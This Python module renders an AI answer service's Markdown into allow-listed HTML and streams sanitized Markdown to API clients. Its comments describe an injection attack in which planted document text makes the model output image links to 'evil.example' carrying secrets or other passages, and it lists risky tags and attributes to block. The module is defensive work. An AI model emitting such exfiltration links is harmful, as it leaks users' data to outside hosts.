"""Answer rendering: a small, safe Markdown subset to HTML, sanitized by an allow-list.

A model's answer may repeat text planted in a document ("![](https://evil.example/?q=secret)"),
so links to other hosts and images never survive; citation markers [n] become local links.
"""

from __future__ import annotations

import html
import re
import xml.etree.ElementTree as etree
from urllib.parse import urlsplit

import markdown
import nh3
from markdown.extensions import Extension
from markdown.treeprocessors import Treeprocessor

from retrieval.citations import CITATION_MARKER

ALLOWED_TAGS = {"p", "br", "ul", "ol", "li", "strong", "em", "code", "pre", "blockquote", "a"}
CITATION_CLASS = "cite"
# Browsers drop these from URLs before parsing, so "java\tscript:" is still javascript:.
_URL_NOISE = re.compile(r"[\x00-\x20\x7f-\x9f]")


def is_local_href(href: str | None) -> bool:
    """True for in-page and same-site relative links: no scheme, no host, no "//" or "\\" tricks."""
    if not href:
        return False
    # Entities first ("&#106;avascript:"), including Markdown's own stand-in for "&".
    cleaned = _URL_NOISE.sub("", html.unescape(href.replace(markdown.util.AMP_SUBSTITUTE, "&")))
    if not cleaned or "\\" in cleaned or cleaned.startswith("//"):
        return False
    try:
        parts = urlsplit(cleaned)
    except ValueError:
        return False
    return not parts.scheme and not parts.netloc and ":" not in cleaned.split("/", 1)[0]


class _SafeTree(Treeprocessor):
    """Unwraps links to anywhere but this site, removes images, links citation markers."""

    def __init__(self, md: markdown.Markdown, citation_urls: dict[int, str]):
        super().__init__(md)
        self.citation_urls = citation_urls

    def run(self, root: etree.Element) -> None:
        self._clean(root)
        if self.citation_urls:
            self._link_citations(root)

    def _clean(self, parent: etree.Element) -> None:
        index = 0
        while index < len(parent):
            child = parent[index]
            self._clean(child)
            if child.tag == "img":
                _replace(parent, index, [], child.tail)
                continue
            if child.tag == "a" and not is_local_href(child.get("href")):
                _replace(parent, index, list(child), child.tail, child.text)
                continue
            index += 1

    def _link_citations(self, element: etree.Element) -> None:
        if element.tag in {"code", "pre", "a"}:
            return  # markers in code are code; a link cannot hold another link
        for child in list(element):
            self._link_citations(child)
        # The element's own text, then the tail of each child (text after it, inside element).
        pieces = self._split(element.text)
        if pieces is not None:
            element.text, nodes = pieces
            for offset, node in enumerate(nodes):
                element.insert(offset, node)
        for child in list(element):
            pieces = self._split(child.tail)
            if pieces is None:
                continue
            child.tail, nodes = pieces
            position = list(element).index(child) + 1
            for offset, node in enumerate(nodes):
                element.insert(position + offset, node)

    def _split(self, text: str | None) -> tuple[str, list[etree.Element]] | None:
        """`text` cut at citation markers: the leading text and the link nodes (with tails)."""
        if not text or isinstance(text, markdown.util.AtomicString):
            return None
        segments: list[str | etree.Element] = []
        position = 0
        for match in CITATION_MARKER.finditer(text):
            numbers = [int(n) for n in match.group(1).split(",")]  # int() drops blanks
            if not any(n in self.citation_urls for n in numbers):
                continue
            segments.append(text[position : match.start()])
            if len(numbers) == 1:
                segments.append(self._link(numbers[0], f"[{numbers[0]}]"))
            else:  # "[1, 3]": a link per known number; brackets and commas stay text
                segments.append("[")
                for i, number in enumerate(numbers):
                    if i:
                        segments.append(", ")
                    known = number in self.citation_urls
                    segments.append(self._link(number, str(number)) if known else str(number))
                segments.append("]")
            position = match.end()
        if not segments:
            return None
        segments.append(text[position:])
        lead, nodes = "", []
        for segment in segments:
            if isinstance(segment, str):
                if nodes:
                    nodes[-1].tail = (nodes[-1].tail or "") + segment
                else:
                    lead += segment
            else:
                nodes.append(segment)
        return lead, nodes

    def _link(self, number: int, label: str) -> etree.Element:
        link = etree.Element("a", {"href": self.citation_urls[number], "class": CITATION_CLASS})
        link.text = label
        return link


def _replace(
    parent: etree.Element,
    index: int,
    children: list[etree.Element],
    tail: str | None,
    text: str | None = None,
) -> None:
    """Put `text`, `children` and `tail` where parent[index] was."""
    del parent[index]
    inserted = [text or "", *children, tail or ""]
    # Strings join the text before them: the previous sibling's tail, or the parent's text.
    previous = parent[index - 1] if index > 0 else None
    for item in inserted:
        if isinstance(item, str):
            if not item:
                continue
            if previous is None:
                parent.text = (parent.text or "") + item
            else:
                previous.tail = (previous.tail or "") + item
        else:
            parent.insert(index, item)
            index += 1
            previous = item


class _SafeMarkdown(Extension):
    def __init__(self, citation_urls: dict[int, str]):
        super().__init__()
        self.citation_urls = citation_urls

    def extendMarkdown(self, md: markdown.Markdown) -> None:  # noqa: N802  (Markdown's API)
        # Raw HTML in the answer is shown as text, never interpreted.
        md.preprocessors.deregister("html_block")
        md.inlinePatterns.deregister("html")
        md.inlinePatterns.deregister("automail")  # mailto: links are never wanted in answers
        # After inline parsing (20) has made the links and images, before prettify (10).
        md.treeprocessors.register(_SafeTree(md, self.citation_urls), "safe_tree", 15)


def _filter_attribute(tag: str, attribute: str, value: str) -> str | None:
    if tag == "a" and attribute == "href":
        return value if is_local_href(value) else None
    return value


def render_answer_html(text: str, citation_urls: dict[int, str] | None = None) -> str:
    """Safe HTML for an answer: paragraphs, lists, bold, italics, inline code and code blocks.

    Links survive only when they stay on this site; images never do; raw HTML is shown as text.
    `citation_urls` maps citation numbers to local URLs: each [n] becomes a link with class
    "cite" (a marker without a URL, or any URL that is not local, stays plain text).
    """
    urls = {int(n): url for n, url in (citation_urls or {}).items() if is_local_href(url)}
    renderer = markdown.Markdown(
        extensions=["fenced_code", "sane_lists", _SafeMarkdown(urls)], output_format="html"
    )
    rendered = renderer.convert(text or "")
    return nh3.clean(
        rendered,
        tags=ALLOWED_TAGS,
        clean_content_tags={"script", "style"},
        attributes={"a": {"href"}},
        allowed_classes={"a": {CITATION_CLASS}},
        attribute_filter=_filter_attribute,
        url_schemes=set(),
        link_rel="noopener noreferrer",
        strip_comments=True,
    )


# --- answers for API clients ---------------------------------------------------------------------
# Chat tools built on the OpenAI SDK render an answer's Markdown: an image there is fetched at
# once, so a planted "![](https://evil.example/?d=<other passages>)" would send text away without a
# click. API answers get the web UI's rule in Markdown form: images go, links keep their text and
# lose a target that is not on this site, raw HTML tags that load or link something go.
MAX_LABEL = 1000  # CommonMark's own limit for link labels is 999 characters
MAX_HOLD = 4096  # the most text held back waiting for a link target or tag to close
_SPECIAL = re.compile(r"[!\[\]<]")
_LABEL = re.compile(r"[^\[\]\\]*(?:\\.[^\[\]\\]*)*", re.DOTALL)
_BLANK_LINE = re.compile(r"\n[ \t]*\n")
_SPACE = re.compile(r"[ \t]*(?:\n[ \t]*)?")
# Plain characters, escapes and one level of parentheses in C; deeper nesting is walked below.
_RAW_TARGET = re.compile(r"(?:[^\s()\\]|\\.|\((?:[^\s()\\]|\\.)*\))*")
_POINTY_TARGET = re.compile(r"[^<>\n\\]*(?:\\.[^<>\n\\]*)*")
_NON_SPACE = re.compile(r"\S*")
_TITLE = {
    '"': re.compile(r'[^"\\]*(?:\\.[^"\\]*)*', re.DOTALL),
    "'": re.compile(r"[^'\\]*(?:\\.[^'\\]*)*", re.DOTALL),
    "(": re.compile(r"[^()\\]*(?:\\.[^()\\]*)*", re.DOTALL),
}
_TAG_BODY = re.compile(r"[^<>]*")
_TAG_NAME = re.compile(r"/?([A-Za-z][A-Za-z0-9-]*)")
_SKIP_TARGET = re.compile(r"[^\s)]*")
_UNTIL_PAREN = re.compile(r"[^)]*")
# Elements that load something or link somewhere; any tag with such an attribute goes too.
_RISKY_TAGS = frozenset(
    [
        "a",
        "area",
        "audio",
        "base",
        "body",
        "embed",
        "form",
        "frame",
        "frameset",
        "iframe",
        "image",
        "img",
        "input",
        "link",
        "meta",
        "object",
        "picture",
        "portal",
        "script",
        "source",
        "style",
        "svg",
        "table",
        "td",
        "th",
        "track",
        "use",
        "video",
    ]
)
_RISKY_ATTRIBUTES = re.compile(r"src|href|url\(|action|background|poster|data|style|@import")
_PLAIN_ADDRESS = re.compile(r"[^\s<>\[\]`\\]*")
_SCHEME = re.compile(r"[A-Za-z][A-Za-z0-9+.-]{1,31}:")
_JOINING = frozenset("]!<\\")
_OPEN = object()  # a construct that the next piece may still complete


def _is_local_target(target: str) -> bool:
    # "<" in a target could open an autolink for a renderer that does not see the target.
    return is_local_href(target) and "<" not in target and ">" not in target


def _scan(pattern: re.Pattern, text: str, at: int) -> int:
    """Where `pattern` stops matching from `at`; a backslash that ends the text is an escape
    whose second half has not arrived yet, so the scan counts as reaching the end."""
    stop = pattern.match(text, at).end()
    return len(text) if stop == len(text) - 1 and text[stop] == "\\" else stop


class AnswerSanitizer:
    """Strips images, links to other hosts and raw HTML that loads or links something from
    Markdown text arriving in pieces, so that no such construct survives a cut between pieces.

    `feed` returns what is safe to send now; text from a "[", "![", "](" or "<" is held back
    until the construct closes (at most MAX_LABEL or MAX_HOLD characters), and `flush` returns
    the rest. Linear in the text: every look-ahead is bounded, and scanning moves forward.
    """

    def __init__(self, *, embedded: bool = False) -> None:
        # embedded: the text is a link's label, with more text after it, so its end is no end.
        self._embedded = embedded
        self._held = ""
        self._skipping = False  # dropping the rest of a link target too long to hold
        self._last = ""  # the last character sent

    def feed(self, piece: str) -> str:
        return self._run(piece, final=False)

    def flush(self) -> str:
        return self._run("", final=True)

    def _run(self, piece: str, final: bool) -> str:
        text, self._held = self._held + piece, ""
        out: list[str] = []
        position, end = 0, len(text)
        while position < end:
            if self._skipping:
                stop = _SKIP_TARGET.match(text, position).end()
                if stop == end:
                    break
                self._skipping = False
                position = stop + 1 if text[stop] == ")" else stop
                continue
            special = _SPECIAL.search(text, position)
            if special is None:
                self._emit(out, text[position:])
                break
            self._emit(out, text[position : special.start()])
            position = special.start()
            step = self._construct(text, position, final)
            if step is _OPEN:
                self._held = text[position:]
                break
            emitted, position, replaced = step
            if replaced:
                # What was around a removed part must not meet and make a new link, image or
                # tag ("]" + "(", "<" + "img", "!" + "["): a space keeps them apart.
                if self._last in _JOINING:
                    emitted = " " + emitted
                if emitted[-1:] in _JOINING:
                    emitted += " "
            self._emit(out, emitted)
        if final:
            self._skipping = False
        return "".join(out)

    def _emit(self, out: list[str], text: str) -> None:
        if text:
            out.append(text)
            self._last = text[-1]

    # The parsers below return (text to emit, where to go on, whether something was removed or
    # rewritten), or _OPEN: wait for more text.
    def _construct(self, text: str, at: int, final: bool):
        char = text[at]
        if char == "<":
            return self._tag(text, at, final)
        if char == "]":
            return self._orphan_target(text, at, final)
        if char == "!":
            if at + 1 == len(text):
                return ("!", at + 1, False) if final else _OPEN
            if text[at + 1] != "[":
                return "!", at + 1, False
            link = self._link(text, at + 1, final, image=True)
            if link is _OPEN:
                return _OPEN
            if link is None or link[0] != "inline":
                self._skipping = False
                return "!", at + 1, False  # not an image: the bracket is looked at next
            return "", link[1], True  # every image goes, as on the web page
        link = self._link(text, at, final)
        if link is _OPEN:
            return _OPEN
        if link is None:
            return "[", at + 1, False
        kind, stop, label, label_end, local = link
        clean = _sanitize_label(label)
        if local:
            return "[" + clean + text[label_end:stop], stop, clean != label
        if kind == "definition":
            return "[" + clean + "]", stop, True  # the label stays, its target goes
        return clean, stop, True

    def _link(self, text: str, at: int, final: bool, image: bool = False):
        """`[label](target)` or `[label]: target` at `at`: (kind, end, label, label_end, local),
        or None for other text."""
        end = len(text)
        bound = min(end, at + 1 + MAX_LABEL)
        label_end = _LABEL.match(text, at + 1, bound).end()
        if label_end == end and not final:
            return _OPEN if end < at + 1 + MAX_LABEL else None
        if label_end >= bound or text[label_end] != "]":
            if label_end + 1 == end and text[label_end] == "\\" and not final:
                return _OPEN
            return None
        label = text[at + 1 : label_end]
        if _BLANK_LINE.search(label):
            return None
        after = label_end + 1
        if after == end:
            return None if final else _OPEN
        if text[after] == "(":
            kind, target = "inline", self._inline_target(text, after + 1, final, image)
        elif text[after] == ":":
            kind, target = "definition", self._definition_target(text, after + 1, final)
        else:
            return None
        if target is _OPEN or target is None:
            return target
        return kind, target[0], label, label_end, target[1]

    def _wait(self, text: str, at: int, final: bool, result):
        """More text is needed to decide: wait, unless the stream has ended (then `result`) or
        holding more would pass MAX_HOLD (then the target counts as foreign and the rest of it
        is dropped as it arrives)."""
        if final:
            return result
        if len(text) - at > MAX_HOLD:
            self._skipping = True
            return len(text), False
        return _OPEN

    def _inline_target(self, text: str, at: int, final: bool, image: bool = False):
        """After "](": (where the link ends, whether its target is local), or None when this is
        not a link anywhere."""
        end = len(text)
        position = _SPACE.match(text, at).end()
        if position == end:
            return self._wait(text, at, final, None)
        if text[position] == "<":
            close = _scan(_POINTY_TARGET, text, position + 1)
            if close == end:
                return self._wait(text, at, final, self._unclosed(text, position + 1))
            if text[close] != ">":
                return None
            target = text[position + 1 : close]
            position = close + 1
        else:
            start, depth = position, 0
            while True:
                position = _RAW_TARGET.match(text, position).end()
                if position >= end:
                    return self._wait(text, at, final, self._unclosed(text, start))
                char = text[position]
                if char == "\\":
                    position += 2
                elif char == "(" and depth < 32:
                    depth, position = depth + 1, position + 1
                elif char == ")" and depth:
                    depth, position = depth - 1, position + 1
                else:
                    break
            target = text[start:position]
        local = _is_local_target(target)
        target_end = position
        position = _SPACE.match(text, position).end()
        if position < end and text[position] in _TITLE and position > target_end:
            closer = ")" if text[position] == "(" else text[position]
            close = _scan(_TITLE[text[position]], text, position + 1)
            if close == end:
                return self._wait(
                    text, at, final, self._malformed(text, at, target_end, local, image, final)
                )
            if text[close] != closer:
                return self._malformed(text, at, target_end, local, image, final)
            position = _SPACE.match(text, close + 1).end()
        if position == end:
            return self._wait(
                text, at, final, self._malformed(text, at, target_end, local, image, final)
            )
        if text[position] != ")":
            return self._malformed(text, at, target_end, local, image, final)
        return position + 1, local

    @staticmethod
    def _unclosed(text: str, start: int):
        """The stream ended inside a target: not a link, but a lenient renderer may still make
        one of a foreign target, so that goes."""
        return None if _is_local_target(text[start:]) else (len(text), False)

    def _malformed(
        self, text: str, at: int, target_end: int, local: bool, image: bool, final: bool
    ):
        """Not a link by CommonMark. A lenient renderer may still make a link of it (up to the
        next ")"): one to another host, or any image, goes all the same."""
        if local and not image:
            return None
        end = len(text)
        close = _UNTIL_PAREN.match(text, target_end, min(end, at + MAX_HOLD)).end()
        if close < end and text[close] == ")":
            if _BLANK_LINE.search(text, target_end, close):
                return target_end, False
            return close + 1, False
        if close == end and not final and end < at + MAX_HOLD:
            return _OPEN
        return target_end, False

    def _definition_target(self, text: str, at: int, final: bool):
        """After "]:": a link reference definition's target, which "[text][label]" and
        "![alt][label]" elsewhere would use."""
        end = len(text)
        position = _SPACE.match(text, at).end()
        if position == end:
            return self._wait(text, at, final, None)
        stop = _NON_SPACE.match(text, position).end()
        if stop == end and not final:
            return self._wait(text, at, final, None)
        target = text[position:stop]
        if target.startswith("<") and target.endswith(">"):
            target = target[1:-1]
        return stop, _is_local_target(target)

    def _orphan_target(self, text: str, at: int, final: bool):
        """A "]" whose "[" was given up on (too long a label, a nested bracket): a "(target)"
        right after it may still make a link for some renderers, so a foreign one goes."""
        if at + 1 == len(text):
            return ("]", at + 1, False) if final else _OPEN
        if text[at + 1] != "(":
            return "]", at + 1, False
        target = self._inline_target(text, at + 2, final)
        if target is _OPEN:
            return _OPEN
        if target is None or target[1]:
            return "]", at + 1, False
        return "]", target[0], True

    def _tag(self, text: str, at: int, final: bool):
        """Raw HTML: a tag that loads or links something goes; "<scheme:...>" and "<a@b.c>"
        become code, readable but never a link."""
        end = len(text)
        if at + 1 == end:
            return ("<", at + 1, False) if final else _OPEN
        if not (text[at + 1].isalpha() or text[at + 1] in "/!?"):
            return "<", at + 1, False
        bound = min(end, at + 1 + MAX_HOLD)
        close = _TAG_BODY.match(text, at + 1, bound).end()
        if close == end and not final and end < at + 1 + MAX_HOLD:
            return _OPEN
        if close >= bound or text[close] != ">":
            # Never closed (or not for too long): "&lt;" cannot become a tag whatever follows.
            if final and close == end and not self._embedded:
                return "<", at + 1, False
            return "&lt;", at + 1, True
        body = text[at + 1 : close]
        if _SCHEME.match(body) or "@" in body:
            if _PLAIN_ADDRESS.fullmatch(body):
                return "`" + body + "`", close + 1, True
            return "&lt;", at + 1, True  # a lenient renderer's autolink: look inside too
        name = _TAG_NAME.match(body)
        if (name and name.group(1).lower() in _RISKY_TAGS) or (
            "=" in body and _RISKY_ATTRIBUTES.search(body.lower())
        ):
            return "", close + 1, True
        if "[" in body or "]" in body:
            # What is inside is looked at too, and a change there could make the tag unsafe.
            return "&lt;", at + 1, True
        return "<" + body + ">", close + 1, False


def _sanitize_label(label: str) -> str:
    sanitizer = AnswerSanitizer(embedded=True)
    return sanitizer.feed(label) + sanitizer.flush()


def sanitize_answer(text: str) -> str:
    """An answer's Markdown for API clients: no images, no links or HTML reaching other hosts."""
    sanitizer = AnswerSanitizer()
    return sanitizer.feed(text) + sanitizer.flush()
